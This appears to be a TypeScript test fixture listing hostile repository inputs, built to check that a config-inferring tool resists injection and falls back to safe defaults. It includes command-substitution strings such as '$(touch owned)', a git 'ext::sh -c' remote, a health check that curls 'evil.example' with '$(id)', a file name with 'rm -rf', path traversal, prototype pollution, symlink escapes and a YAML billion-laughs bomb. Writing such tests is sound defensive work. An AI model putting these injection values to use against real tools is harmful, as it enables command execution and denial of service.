import { symlinkSync } from "node:fs";
import { join } from "node:path";
import { expect } from "vitest";
import type { Case, World } from "./world.ts";

/** Files of a repository, of which a name, a port, a command or a build is read; whatever they say, an app is written. */
type Files = { readonly [path: string]: string | Uint8Array };

const around = (name: string, files: Files, holds?: Case["holds"], more?: (world: World) => void): Case => ({
  name,
  arrange: (world) => {
    for (const [path, content] of Object.entries(files)) world.put(path, content);
    more?.(world);
  },
  ...(holds && { holds }),
});

const remote = (url: string) => `[core]\n\tbare = false\n[remote "origin"]\n\turl = ${url}\n`;
const NAMES: readonly (readonly [what: string, url: string, name: string])[] = [
  ["a command for a name", "git@github.com:a/$(touch owned).git", "shop"],
  ["an escape in it", "https://github.com/a/sh\u001b[2Jop.git", "sh-2jop"],
  ["a password in it", "https://ada:hunter2@github.com/a/web.git", "web"],
  ["nothing after its slash", "https://github.com/", "github-com"],
  ["a name of dots", "https://github.com/a/...git", "app"],
  ["a name that AWS reserves", "https://github.com/a/internal-tools", "tools"],
  ["a name of another alphabet", "https://github.com/a/магазин.git", "app"],
  ["a name of kilobytes", `https://github.com/a/${"x".repeat(50_000)}.git`, "x".repeat(15)],
  ["a name of digits", "https://github.com/a/2048.git", "app"],
  ["a program for an address", "ext::sh -c 'touch owned'", "shop"],
  ["JavaScript's prototype for a name", "https://github.com/a/__proto__", "proto"],
];
const REMOTES: readonly Case[] = [
  ...NAMES.map(([what, url, name]) =>
    around(`a remote with ${what}`, { ".git/config": remote(url) }, ({ config }) => expect(config.name).toBe(name)),
  ),
  around("a remote of a megabyte of sections", { ".git/config": '[remote "origin"]\n'.repeat(60_000) }),
  around("a remote of bytes that are no text", { ".git/config": new Uint8Array([0xff, 0x00, 0x5b, 0xfe]) }),
  around(
    "a configuration of git's that is a link out of here",
    {},
    ({ config }) => expect(config.name).toBe("shop"),
    ({ repo, put }) => {
      put("../beside/config", remote("https://github.com/a/evil.git"));
      put(".git/HEAD", "");
      symlinkSync("../../beside/config", join(repo, ".git", "config"));
    },
  ),
];

const packaged = (what: string, content: string | Uint8Array, name: string): Case =>
  around(`a package.json with ${what}`, { "package.json": content }, ({ config }) => expect(config.name).toBe(name));
const PACKAGES: readonly Case[] = [
  packaged("a command for a name", '{"name": "$(touch owned)"}', "touch-owned"),
  packaged("a scope and the way up", '{"name": "@a/../../etc"}', "etc"),
  packaged("an object for a name", '{"name": {"a": 1}}', "shop"),
  packaged("JavaScript's prototype", '{"__proto__": {"name": "evil"}, "name": "ours"}', "shop"),
  packaged("an escape in its name", '{"name": "\\u001b[2Jours"}', "2jours".replace(/^\d/, "")),
  packaged("a thousand levels", `${"[".repeat(1000)}`, "shop"),
  packaged("bytes that are no text", new Uint8Array([0x7b, 0xff]), "shop"),
  packaged("scripts that are none", '{"name": "ours", "scripts": [null, 1], "dependencies": "vite"}', "ours"),
];

const python = 'from fastapi import FastAPI\napp = FastAPI()\n\n@app.get("/health")\ndef health(): ...\n';
const docker = (what: string, text: string | Uint8Array, holds?: Case["holds"]): Case =>
  around(`a Dockerfile with ${what}`, { Dockerfile: text }, holds);
const port =
  (value: number): NonNullable<Case["holds"]> =>
  ({ config }) =>
    expect(config.environments.dev?.service.port).toBe(value);
const path =
  (value: string): NonNullable<Case["holds"]> =>
  ({ config }) =>
    expect(config.environments.dev?.service.healthPath).toBe(value);
const health = (words: string) => `FROM a\nEXPOSE 80\nHEALTHCHECK CMD ${words}\n`;

const DOCKERFILES: readonly Case[] = [
  docker("nothing in it", "", port(8000)),
  docker("a port above all ports", "FROM a\nEXPOSE 99999999999999999999\n", port(8000)),
  docker("the port zero", "FROM a\nEXPOSE 0\n", port(8000)),
  docker("a port below none", "FROM a\nEXPOSE -80\n", port(8000)),
  docker("a port of a command's", "FROM a\nEXPOSE $(touch owned)\n", port(8000)),
  docker("a port of another alphabet's digits", "FROM a\nEXPOSE ٨٠\n", port(8000)),
  docker("a variable of itself", "FROM a\nARG P=$P\nENV P=${P}${P}\nEXPOSE $P\n", port(8000)),
  docker("a health check of another server", health("curl http://evil.example/$(id)"), path("/health")),
  docker("a path with a quote in it", health("curl http://localhost:80/a'b"), undefined),
  docker("a path with a blank in it", health('curl "http://localhost:80/a b"'), undefined),
  docker("a path with an escape in it", health("curl http://localhost:80/\u001b[2Jx"), undefined),
  docker("a path up", health("curl http://localhost:80/../../x"), undefined),
  docker("a path of kilobytes", health(`curl http://localhost:80/${"x".repeat(100_000)}`), path("/health")),
  docker("a megabyte in a line", `FROM a\nRUN ${"a".repeat(900_000)}\nEXPOSE 81\n`, undefined),
  docker("ten thousand stages", `${"FROM a AS b\n".repeat(10_000)}EXPOSE 82\n`, undefined),
  docker("a hundred thousand variables", `FROM a\n${"ENV a=1\n".repeat(100_000)}EXPOSE 82\n`, port(8000)),
  docker(
    "a thousand variables of kilobytes",
    `FROM a\n${"ENV a$a=".concat("b".repeat(900), "\n").repeat(990)}EXPOSE 82\n`,
  ),
  docker("variables that double", `FROM a\nENV a=aaaaaaaa\n${"ENV a=$a$a\n".repeat(60)}EXPOSE $a\n`),
  docker(
    "stages that begin from one another",
    Array.from({ length: 9000 }, (_, at) => `FROM s${at} AS s${at + 1}\nRUN x\n`).join(""),
  ),
  docker("stages that are made of one another", "FROM b AS a\nFROM a AS b\nEXPOSE 83\n", undefined),
  docker("backslashes without an end", `FROM a \\\n${"\\\n".repeat(20_000)}`, undefined),
  docker("bytes that are no text", new Uint8Array([0xff, 0xfe, 0x46, 0x00, 0x52, 0x00]), undefined),
  docker("lines of Windows and a mark", "\ufeffFROM a\r\nEXPOSE 84\r\n", undefined),
  docker("a stage with an escape in its name", "FROM a AS x\u001b[2J\nEXPOSE 85\n", undefined),
  docker("a command that writes YAML", 'FROM a\nCMD ["celery", "worker\\nname: evil"]\nEXPOSE 86\n', undefined),
  around("a Dockerfile that is a folder", { "Dockerfile/x": "" }),
  around("a Dockerfile that is a link out of here", {}, port(8000), ({ repo, put }) => {
    put("../beside/Dockerfile", "FROM a\nEXPOSE 87\n");
    symlinkSync("../beside/Dockerfile", join(repo, "Dockerfile"));
  }),
  around("a folder of services with a line's end in its name", { "a\nb: c/Dockerfile": "FROM a\nEXPOSE 88\n" }),
  around("a Dockerfile in a folder with an escape in its name", { "a\u001b[2Jb/Dockerfile": "FROM a\nEXPOSE 89\n" }),
  around("a Dockerfile in a folder that YAML reads as something else", {
    "- *a & #b/Dockerfile": "FROM a\nEXPOSE 90\n",
  }),
  around(
    "a Dockerfile beside links in a circle",
    { Dockerfile: "FROM a\nCOPY . .\nEXPOSE 91\n" },
    undefined,
    ({ repo }) => symlinkSync(".", join(repo, "again")),
  ),
];

const OTHERS: readonly Case[] = [
  around("a compose.yaml of a billion words", { Dockerfile: "FROM a\n", "compose.yaml": laughs() }),
  around("a compose.yaml that builds above", { "compose.yaml": "services: {api: {build: ../../beside}}\n" }),
  around("a compose.yaml whose services are null", {
    "compose.yaml": "services: {a: null, b: [], c: 1, __proto__: {}}\n",
  }),
  around("a compose.yaml with a port of a command's", {
    Dockerfile: "FROM a\n",
    "compose.yaml": 'services: {api: {build: ., ports: ["$(id):99999", {target: "x"}]}}\n',
  }),
  around("a pyproject.toml that is none", { Dockerfile: "FROM a\n", "pyproject.toml": "[project\ndependencies = [" }),
  around("a pyproject.toml of a thousand levels", {
    Dockerfile: "FROM a\n",
    "pyproject.toml": `a = ${"[".repeat(1000)}${"]".repeat(1000)}\n`,
  }),
  around("a worker with a quote in its name", {
    Dockerfile: "FROM python\nWORKDIR /app\nCOPY . .\nEXPOSE 80\n",
    "requirements.txt": "celery\n",
    "jobs/it's; rm -rf/worker.py": 'app = Celery("jobs")\n',
  }),
  around("a worker in a module that is a flag", {
    Dockerfile: "FROM python\nWORKDIR /app\nCOPY . .\nEXPOSE 80\n",
    "requirements.txt": "celery\n",
    "--help/worker.py": 'app = Celery("jobs")\n',
  }),
  around("a server's program of a megabyte", {
    Dockerfile: "FROM python\nCMD uvicorn main:app\n",
    "main.py": python + "#".repeat(2 ** 20),
  }),
  around("a path of health that is a program's", {
    Dockerfile: "FROM python\nWORKDIR /app\nCOPY . .\nEXPOSE 80\nCMD uvicorn main:app --port 80\n",
    "main.py": python.replace("/health", "/health{x!r}\\n'; DROP"),
  }),
  around("a frontend whose output is above", {
    "web/package.json": '{"scripts": {"build": "vite build --outDir ../../../beside"}, "dependencies": {"vite": "7"}}',
    "web/index.html": "",
  }),
  around("a frontend whose build is two commands", {
    "web/package.json": '{"scripts": {"build": "touch owned && vite build"}, "dependencies": {"vite": "7"}}',
    "web/index.html": "",
  }),
  around("a frontend in a folder with a quote in its name", {
    "it's\tweb/package.json": '{"scripts": {"build": "vite build"}, "dependencies": {"vite": "7"}}',
    "it's\tweb/index.html": "",
  }),
  around("workspaces without an end", {
    "package.json": `{"name": "shop", "workspaces": ["${"**/".repeat(50)}*", "../*", "/", "{a,b}{c,d}{e,f}", "!!"]}`,
    "pnpm-workspace.yaml": "packages: [../**, &a [*a]]\n",
  }),
  around("ten thousand folders", {}, undefined, ({ put }) => {
    for (let at = 0; at < 400; at += 1) put(`folder${at}/x`, "");
  }),
];

function laughs(): string {
  const lines = Array.from({ length: 12 }, (_, at) => `a${at + 1}: &a${at + 1} [${Array(9).fill(`*a${at}`)}]`);
  return ["a0: &a0 [x, x]", ...lines, "services: {a: *a12}"].join("\n");
}

export const AROUND: readonly Case[] = [...REMOTES, ...PACKAGES, ...DOCKERFILES, ...OTHERS];
